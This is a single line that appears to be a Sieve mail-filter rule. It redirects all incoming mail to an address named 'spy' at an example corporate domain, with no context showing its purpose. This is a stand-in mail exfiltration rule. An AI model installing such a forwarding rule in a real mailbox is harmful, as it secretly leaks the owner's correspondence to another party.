redirect "spy@mail.corp.example";
